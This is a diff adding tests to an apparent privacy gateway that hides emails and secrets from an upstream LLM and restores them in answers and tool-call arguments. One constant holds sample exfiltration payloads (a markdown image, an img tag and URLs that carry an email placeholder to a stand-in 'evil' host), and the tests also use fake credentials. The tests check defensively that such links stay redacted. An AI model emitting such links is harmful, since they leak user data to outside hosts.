@@ -248,3 +248,135 @@ async def test_six_turns_with_tool_calls_by_the_official_client_of_anthropic(
                 assert block.text == f"Sent to {mail}, well."
     await client.close()
     assert "@posthaus.org" not in str([each.body for each in upstream.seen])
+
+
+ADDRESSES = "![x](http:/evil/[EMAIL_1]) <img src='\\\\evil/[EMAIL_1]'> https://[EMAIL_1]@evil/ but //server/[EMAIL_1]/"
+
+
+@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/responses", "/v1/messages"])
+@pytest.mark.parametrize("size", [1, 7, 1_000])
+async def test_addresses_at_other_hosts_keep_placeholders_and_shares_get_values(
+    server: InProcessGateway, upstream: Upstream, path: str, size: int
+) -> None:
+    pieces = [ADDRESSES[at : at + size] for at in range(0, len(ADDRESSES), size)]
+    upstream.will(up.answer(up.completion(ADDRESSES)), up.stream(*up.text_stream(pieces)))
+    before, _, after = ADDRESSES.rpartition("[EMAIL_1]")
+    for stream in (False, True):
+        assert await text_from(server, path, stream, f"I am {MAIL}") == before + MAIL + after
+
+
+async def text_from(server: InProcessGateway, path: str, stream: bool, text: str, **fields: Any) -> str:
+    """The text of an answer, whole or streamed, on any of the three routes."""
+    talk: dict[str, Any] = (
+        {"input": text} if path == "/v1/responses" else {"messages": [{"role": "user", "content": text}]}
+    )
+    body = {"model": "SvcLLM", "max_tokens": 100, "stream": stream, **talk, **fields}
+    _, data, _ = await send(server, path, {k: v for k, v in body.items() if k != "max_tokens" or "input" not in talk})
+    if not stream:
+        if "choices" in data:
+            return str(data["choices"][0]["message"]["content"])
+        return str((data["output"][0] if "output" in data else data)["content"][0]["text"])
+    said = ""
+    for event in filter(None, data):
+        if event.get("choices"):
+            said += event["choices"][0]["delta"].get("content") or ""
+        elif event.get("type") == "response.output_text.delta":
+            said += event["delta"]
+        elif event.get("type") == "content_block_delta":
+            said += event["delta"].get("text", "")
+    return said
+
+
+PATHS = ("/v1/chat/completions", "/v1/responses", "/v1/messages")
+OVERLAPPING = [
+    "the db is postgres://app:tR4vel!ing77@db.posthaus.org:5432/shop, ok",
+    "mail AKIA5QWERTZUIOPLKJHG@posthaus.org now",
+    "url https://jane.doe@posthaus.org:s3cr3tXyz9Q@git.posthaus.org/x.git end",
+    "https://api.posthaus.org/v1?key=sk_live_4eC39HqLyjWDarjtT1zdp7dc&mail=jane.doe@posthaus.org end",
+    "DATABASE_URL=mysql://jane.doe@posthaus.org:tR4vel!ing77@10.0.0.1/db; password: tR4vel!ing77",
+    "password: abc123xyz! and mail abc123xyz!@posthaus.org",
+]
+
+
+@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("text", OVERLAPPING)
+async def test_values_that_overlap_come_back_whole(
+    server: InProcessGateway, upstream: Upstream, path: str, text: str
+) -> None:
+    upstream.will(echo)
+    for stream in (False, True):
+        assert await text_from(server, path, stream, text) == "You said: " + text
+        seen = str(upstream.last.body)
+        assert not any(value in seen for value in ("tR4vel", "AKIA5", "s3cr3t", "sk_live", "abc123"))
+
+
+ARGUMENTS: list[tuple[str, Any]] = [
+    (r'{"to": "\u005bEMAIL_1\u005d"}', {"to": MAIL}),
+    (r'{"to": "\u005BEMAIL\u005f1\u005D", "cc": ["[EMAIL_1]"]}', {"to": MAIL, "cc": [MAIL]}),
+    (r'{"body": "{\"key\": \"[SECRET_1]\", \"to\": [\"[EMAIL_1]\"]}"}', {"body": {"key": "SECRET", "to": [MAIL]}}),
+    (r'{"a": "{\"b\": \"{\\\"key\\\": \\\"[SECRET_1]\\\"}\"}"}', {"a": {"b": {"key": "SECRET"}}}),
+    (r'{"a": "{\"key\": \"\\u005bSECRET_1\\u005d\"}"}', {"a": {"key": "SECRET"}}),
+    (r'{"say": "a \"quoted\" word, then [SECRET_1]"}', {"say": 'a "quoted" word, then SECRET'}),
+    (r'{"path": "C:\\Users\\[EMAIL_1]\\x"}', {"path": f"C:\\Users\\{MAIL}\\x"}),
+]
+QUOTED = 'p"x7\\Q!kW9zt'
+
+
+def opened(value: Any) -> Any:
+    """Decoded arguments, with the JSON in their strings."""
+    if isinstance(value, dict | list):
+        pairs = value.items() if isinstance(value, dict) else enumerate(value)
+        return type(value)(
+            {key: opened(each) for key, each in pairs} if isinstance(value, dict) else map(opened, value)
+        )
+    return opened(orjson.loads(value)) if isinstance(value, str) and value[:1] == "{" else value
+
+
+@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize(("arguments", "wanted"), ARGUMENTS)
+@pytest.mark.parametrize("size", [1, 5, 1_000])
+async def test_arguments_are_restored_however_they_are_spelt_and_nested(
+    server: InProcessGateway, upstream: Upstream, path: str, arguments: str, wanted: Any, size: int
+) -> None:
+    call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": arguments}}
+    head = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "send", "arguments": ""}}
+    pieces = [
+        up.chunk({"tool_calls": [{"index": 0, "function": {"arguments": arguments[at : at + size]}}]})
+        for at in range(0, len(arguments), size)
+    ]
+    whole = up.answer(up.completion(None, "tool_calls", tool_calls=[call]))
+    upstream.will(whole, up.stream(up.chunk({"tool_calls": [head]}), *pieces, up.chunk({}, "tool_calls"), up.DONE))
+    for stream in (False, True):
+        said_back = await arguments_from(server, path, stream, f"mail {MAIL}, password: '{QUOTED}'")
+        assert "SECRET" not in said_back and "EMAIL" not in said_back and "u005" not in said_back.lower()
+        found = orjson.dumps(opened(orjson.loads(said_back))).decode()
+        assert found == orjson.dumps(wanted).decode().replace("SECRET", orjson.dumps(QUOTED).decode()[1:-1])
+
+
+async def arguments_from(server: InProcessGateway, path: str, stream: bool, text: str) -> str:
+    """The arguments of the call that an answer makes."""
+    talk: dict[str, Any] = (
+        {"input": text} if path == "/v1/responses" else {"messages": [{"role": "user", "content": text}]}
+    )
+    tools: list[Any] = [{"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}]
+    if path == "/v1/responses":
+        tools = [{"type": "function", "name": "send", "parameters": {"type": "object"}}]
+    elif path == "/v1/messages":
+        tools, talk = [TOOL], {**talk, "max_tokens": 100}
+    _, data, _ = await send(server, path, {"model": "SvcLLM", "stream": stream, "tools": tools, **talk})
+    if not stream:
+        if "choices" in data:
+            return str(data["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
+        if "output" in data:
+            return str(data["output"][0]["arguments"])
+        return orjson.dumps(data["content"][0]["input"]).decode()
+    said = ""
+    for event in filter(None, data):
+        for choice in event.get("choices") or ():
+            for call in choice["delta"].get("tool_calls") or ():
+                said += call["function"].get("arguments") or ""
+        if event.get("type") == "response.function_call_arguments.delta":
+            said += event["delta"]
+        elif event.get("type") == "content_block_delta":
+            said += event["delta"].get("partial_json", "")
+    return said
